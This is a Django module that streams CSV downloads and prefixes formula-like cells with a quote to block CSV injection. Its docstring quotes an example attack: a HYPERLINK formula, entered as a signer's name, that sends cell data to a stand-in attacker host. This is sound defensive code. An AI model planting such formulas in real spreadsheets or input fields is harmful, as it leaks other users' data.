"""CSV files that spreadsheets open as data, never as formulas, streamed row by row.

A cell starting with =, +, -, @, a tab or a carriage return is read by
spreadsheet programs as a formula (CSV injection): a signer could type
`=HYPERLINK("https://evil.example/?"&A2, "click")` as their name and have the
organiser's spreadsheet send other signers' data away. A leading single quote
makes such a cell plain text, as OWASP recommends.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: object) -> str:
    """The cell's text, with a leading quote if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() hands the line back instead of storing it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Encode the header and each row as they come: no whole file in memory."""
    writer = csv.writer(_Echo())
    yield writer.writerow([escape_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([escape_cell(cell) for cell in row])


def streaming_csv_response(
    filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
